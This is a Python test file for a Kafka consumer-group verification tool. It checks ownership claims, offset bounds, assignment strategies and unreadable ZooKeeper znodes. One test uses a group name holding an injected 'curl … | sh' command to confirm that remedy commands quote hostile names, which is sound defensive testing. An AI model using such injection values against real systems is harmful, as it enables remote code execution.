"""``zkafka groups verify``: the command without brokers, and each problem, none of which occurs in a proper assignment."""

from __future__ import annotations

import json
from dataclasses import replace
from operator import itemgetter

import pytest
import typer
from hypothesis import given
from hypothesis import strategies as st

from pyspark_zkafka.errors import CodecError
from pyspark_zkafka.inspect.groups import (
    GroupReport,
    GroupReports,
    LogBounds,
    LogsReport,
    Member,
    Owner,
    UnreadableZnode,
)
from pyspark_zkafka.model.assignors import Subscribers, assign, threads_by_topic
from pyspark_zkafka.model.nouns import TopicPartition
from pyspark_zkafka.model.resumption import StoredOffset
from pyspark_zkafka.model.znodes.groups import ConsumerRegistration, decode_registration
from pyspark_zkafka.tools.group_verify import Problem, verify, verify_group, verify_groups
from tests.support.group_brokers import active
from tests.support.running import Run


@pytest.mark.usefixtures("brokerless")
def test_exit_status(run: Run, capsys: pytest.CaptureFixture[str]) -> None:
    """A problem is a row with its remedy and makes the exit status 1, even if the ends of logs are unknown."""
    with pytest.raises(typer.Exit) as caught:
        run(verify, ["g"])
    assert caught.value.exit_code == 1
    shown = capsys.readouterr()
    assert "No broker leads t-0, t-1" in shown.err
    unverified, unowned = sorted(json.loads(shown.out), key=itemgetter("partition"))
    assert list(unowned)[:6] == ["group", "topic", "partition", "problem", "found", "remedy"]
    assert unowned["partition"] == 1
    assert unowned["owner"] is None
    assert unowned["expected_owner"] == "g_a-0"
    assert unverified["partition"] == 0
    assert unverified["owner"] == "g_a-0"
    assert unverified["expected_owner"] == "g_a-0"


# --- problems ----------------------------------------------------------------------------------------------------------

T0, T1 = TopicPartition("t", 0), TopicPartition("t", 1)
U0 = TopicPartition("u", 0)
LOGS = {T0: LogBounds(5, 10, czxid=50), T1: LogBounds(0, 10, czxid=50)}
C1 = Member(ConsumerRegistration({"t": 1}), 7)
GROUP = GroupReport(
    "g", {"g_c1": C1}, {T0: Owner("g_c1-0", 7), T1: Owner("g_c1-0", 7)}, {T0: StoredOffset(5), T1: StoredOffset(10)}
)


def problems(group: GroupReport, logs: dict[TopicPartition, LogBounds] = LOGS) -> list[tuple[object, ...]]:
    """Return topic, partition and kind of each problem."""
    return [(p.topic, p.partition, p.problem) for p in verify_group(group, logs)]


def claimed(tp: TopicPartition, owner: Owner) -> GroupReport:
    """Return the proper group with another claim."""
    return replace(GROUP, owners={**GROUP.owners, tp: owner})


def committed(tp: TopicPartition, offset: int, mzxid: int | None = None) -> GroupReport:
    """Return the proper group with another offset."""
    return replace(GROUP, offsets={**GROUP.offsets, tp: StoredOffset(offset, mzxid=mzxid)})


def test_proper_group() -> None:
    """A group whose member owns all partitions has no problem, and neither has a group without znodes."""
    assert problems(GROUP) == []
    assert problems(GroupReport("g")) == []


@pytest.mark.parametrize(
    ("group", "expected"),
    [
        (replace(GROUP, owners={T0: Owner("g_c1-0", 7)}), ("t", 1, "no owner")),
        (claimed(T1, Owner("g_gone-0", 8)), ("t", 1, "zombie claim")),
        (claimed(T1, Owner("g_gone-0", 0)), ("t", 1, "zombie claim")),
        (claimed(T1, Owner("g_c1-3", 7)), ("t", 1, "claim of another thread")),
        (claimed(T1, Owner("g_c1-0", 8)), ("t", 1, "claim of another session")),
        (claimed(TopicPartition("t", 2), Owner("g_c1-0", 7)), ("t", 2, "claim of an unknown partition")),
        (committed(T0, 4), ("t", 0, "offset before the log")),
        (committed(T0, 11), ("t", 0, "offset beyond the log")),
        (committed(T0, 7, mzxid=49), ("t", 0, "offset of a deleted topic")),
        (committed(TopicPartition("t", 2), 0), ("t", 2, "offset of an unknown partition")),
        (committed(U0, 0), ("u", 0, "offset of an unknown topic")),
    ],
)
def test_problems(group: GroupReport, expected: tuple[object, ...]) -> None:
    """Each problem is found, without any other."""
    assert problems(group) == [expected]


@pytest.mark.parametrize("offset", [-1, 5, 10])
def test_proper_offsets(offset: int) -> None:
    """Offsets at the bounds of the log and missing offsets are no problem."""
    assert problems(committed(T0, offset, mzxid=51)) == []


@pytest.mark.parametrize("log", [LogBounds(), LogBounds(0, None), LogBounds(None, 10)])
def test_unverified_offset(log: LogBounds) -> None:
    """An offset is a problem if the leader does not return the bounds of the log, but a missing offset is not."""
    assert problems(GROUP, {**LOGS, T0: log}) == [("t", 0, "unverified offset")]
    assert problems(committed(T0, -1), {**LOGS, T0: log}) == []


def test_several_groups() -> None:
    """Each group is verified with the logs of its own topics."""
    other = GroupReport("h", {"h_c1": Member(ConsumerRegistration({"u.*": 1}, "white_list"))})
    found = verify_groups(GroupReports({"g": GROUP, "h": other}, logs=LogsReport({**LOGS, U0: LogBounds()})))
    assert [(p.group, p.topic, p.partition, p.problem) for p in found] == [("h", "u", 0, "no owner")]


def test_members_of_both_kinds() -> None:
    """Members in both ZooKeeper and Kafka are a problem of a group, but members in only one of them are not."""
    groups = {"g": replace(GROUP, in_kafka=active(2)), "h": GroupReport("h", in_kafka=active(1))}
    (problem,) = verify_groups(GroupReports(groups, logs=LogsReport(LOGS)))
    assert problem.group == "g"
    assert problem.problem == "members of both kinds"
    assert problem.found == "1 in ZooKeeper and 2 in Kafka; neither kind sees the other, and both read all partitions"


def test_unreadable_znodes() -> None:
    """An unreadable znode is a single problem, without further problems of missing owners or zombie claims."""
    claim, member = "/consumers/g/owners/t/1", "/consumers/g/ids/g_c1"
    assert problems(
        replace(
            GROUP,
            owners={T0: GROUP.owners[T0]},
            unreadable_owners=(UnreadableZnode(claim, CodecError(claim, None, "an owner")),),
        )
    ) == [(None, None, "unreadable znode")]
    registration = UnreadableZnode(member, CodecError(member, b"t", "a registration"))
    (problem, *others) = verify_group(replace(GROUP, members={}, unreadable_members={"g_c1": registration}), LOGS)
    assert problem.found == "b't', expected a registration"
    assert problem.remedy == "JVM members cannot rebalance; correct or delete /consumers/g/ids/g_c1"
    assert others == []


def test_regex_that_only_java_accepts() -> None:
    """If only Java accepts a member's regex, the remedy does not advise deleting its registration."""
    path, data = "/consumers/g/ids/g_c1", b'{"pattern":"white_list","subscription":{"a(?!b)c":1}}'
    with pytest.raises(CodecError) as raised:
        decode_registration(path, data)
    unreadable = {"g_c1": UnreadableZnode(path, raised.value)}
    (problem,) = verify_group(replace(GROUP, members={}, unreadable_members=unreadable), LOGS)
    assert problem.remedy == f"JVM members cannot rebalance if Java rejects this regex; if so, correct or delete {path}"


def test_remedies_with_hostile_names() -> None:
    """Names of groups and topics are quoted in commands to copy."""
    offsets = {TopicPartition("gone; x", 0): StoredOffset(5), TopicPartition("t", 0): StoredOffset(10**6)}
    problems = verify_group(replace(GROUP, name="a;curl x|sh #", offsets=offsets), LOGS)
    remedies = [problem.remedy for problem in problems if problem.remedy.startswith("zkafka")]
    assert len(remedies) == 2
    assert "--topic 'gone; x'" in remedies[0]
    assert all(remedy.split(" ", 3)[3].startswith("'a;curl x|sh #' --topic ") for remedy in remedies)


SIX = {TopicPartition("t", n): LogBounds() for n in range(6)}
TWO = {f"g_c{n}": Member(ConsumerRegistration({"t": 1}), n) for n in (1, 2)}
STICKY = {name: Member(replace(m.registration, assignor="sticky"), m.session) for name, m in TWO.items()}


def owned_by(*consumers: int) -> dict[TopicPartition, Owner]:
    """Return owners of the first of six partitions, by the numbers of their consumers."""
    return {tp: Owner(f"g_c{n}-0", n) for tp, n in zip(SIX, consumers, strict=False)}


def test_unexpected_assignment() -> None:
    """If no strategy of JVM members gives the assignment, each partition that moves by the nearest one is a problem."""
    owners = owned_by(1, 1, 2, 2, 2, 1)
    found = verify_group(GroupReport("g", TWO, owners), SIX)
    assert [(p.partition, p.problem, p.owner, p.expected_owner) for p in found] == [
        (2, "unexpected assignment", "g_c2-0", "g_c1-0"),
        (5, "unexpected assignment", "g_c1-0", "g_c2-0"),
    ]
    assert found[0].found == "g_c2-0 owns it; range assigns the partition to g_c1-0"
    assert verify_group(GroupReport("g", STICKY, owners), SIX) == []


@pytest.mark.parametrize(
    ("members", "expected"),
    [
        (TWO, "g_c1-0"),
        (STICKY, "g_c2-0"),
        ({**TWO, "g_c1": STICKY["g_c1"]}, None),
        ({"g_c1": Member(ConsumerRegistration({"t": 1}, assignor="newer"), 1)}, None),
    ],
)
def test_expected_owner(members: dict[str, Member], expected: str | None) -> None:
    """A partition without an owner has an expected owner, if the members have one known strategy."""
    owners = {tp: owner for tp, owner in owned_by(1, 1, 2, 1, 2, 2).items() if tp.partition != 2}
    (problem,) = [p for p in verify_group(GroupReport("g", members, owners), SIX) if p.problem == "no owner"]
    assert problem.partition == 2
    assert problem.owner is None
    assert problem.expected_owner == expected
    assert ("assigns the partition to" in problem.found) == (expected is not None)


def test_nearest_strategy() -> None:
    """The expected owner of a partition without an owner is by the strategy that fits the other owners best."""
    threads = threads_by_topic({name: member.registration for name, member in TWO.items()}, ["t"])
    assigned = assign("roundrobin", Subscribers(threads, {"t": tuple(range(6))}))
    owners = {tp: Owner(thread, TWO[thread[:-2]].session) for tp, thread in assigned.items()}
    for tp, owner in owners.items():
        (problem,) = verify_group(GroupReport("g", TWO, {t: o for t, o in owners.items() if t != tp}), SIX)
        assert problem.problem == "no owner"
        assert problem.expected_owner == owner.thread


def test_different_strategies() -> None:
    """Different strategies are a problem, whether the group has settled or not."""
    mixed = GroupReport("g", {**TWO, "g_c1": STICKY["g_c1"]}, owned_by(1, 1, 2, 2, 2, 1))
    (problem,) = verify_group(mixed, SIX)
    assert problem.problem == "different strategies"
    assert problem.owner is None
    assert problem.expected_owner is None
    kinds = {p.problem for p in verify_group(replace(mixed, owners={}), SIX)}
    assert kinds == {"different strategies", "no owner"}


def test_unknown_strategy() -> None:
    """An unknown strategy in a registration is not verified."""
    unknown = Member(ConsumerRegistration({"t": 1}, assignor="newer"), 7)
    assert problems(replace(GROUP, members={"g_c1": unknown})) == []


def test_unreadable_member_gets_no_partition() -> None:
    """The expected owner is one of the members that can be read."""
    path = "/consumers/g/ids/g_c2"
    unreadable = {"g_c2": UnreadableZnode(path, CodecError(path, b"t", "a registration"))}
    found = verify_group(GroupReport("g", {"g_c1": TWO["g_c1"]}, unreadable_members=unreadable), SIX)
    assert {p.expected_owner for p in found if p.problem == "no owner"} == {"g_c1-0"}


def test_internal_topics() -> None:
    """A filter may include internal topics, but claims of topics to which no member subscribes are a problem."""
    internal = TopicPartition("__consumer_offsets", 0)
    logs = {**LOGS, internal: LogBounds()}
    group = replace(claimed(internal, Owner("g_c1-0", 7)), offsets={})
    filtering = replace(group, members={"g_c1": Member(ConsumerRegistration({".*": 1}, "white_list"), 7)})
    assert problems(filtering, logs) == []
    assert problems(replace(filtering, owners=GROUP.owners), logs) == []
    assert problems(group, logs) == [("__consumer_offsets", 0, "claim of an unsubscribed topic")]


# --- any group ---------------------------------------------------------------------------------------------------------

TOPICS = ["a", "b", "cc"]
subscriptions = st.dictionaries(st.sampled_from(TOPICS), st.integers(1, 3), min_size=1)
some_members = st.lists(subscriptions, min_size=1, max_size=4)
some_topics = st.dictionaries(st.sampled_from(TOPICS), st.integers(1, 6), min_size=1)


@given(some_members, some_topics, st.sampled_from(["range", "roundrobin", "roundrobin-0.8", "legacy-range"]), st.data())
def test_any_assignment(
    subscribed: list[dict[str, int]], topics: dict[str, int], strategy: str, data: st.DataObject
) -> None:
    """An assignment by a strategy has no problem, and without one claim, only that partition has no owner."""
    members = {f"g_c{n}": Member(ConsumerRegistration(found), n) for n, found in enumerate(subscribed, start=1)}
    logs = {TopicPartition(topic, n): LogBounds() for topic, count in topics.items() for n in range(count)}
    partitions = {topic: tuple(range(count)) for topic, count in topics.items()}
    threads = threads_by_topic({name: m.registration for name, m in members.items()}, topics)
    assigned = assign(strategy, Subscribers(threads, partitions))
    owners = {tp: Owner(thread, members[thread[:-2]].session) for tp, thread in assigned.items()}
    group = GroupReport("g", members, owners)
    assert verify_group(group, logs) == []
    if owners:
        missing = data.draw(st.sampled_from(sorted(owners)))
        found: list[Problem] = verify_group(replace(group, owners={t: o for t, o in owners.items() if t != missing}), logs)
        assert [(p.topic, p.partition, p.problem) for p in found] == [(*missing, "no owner")]
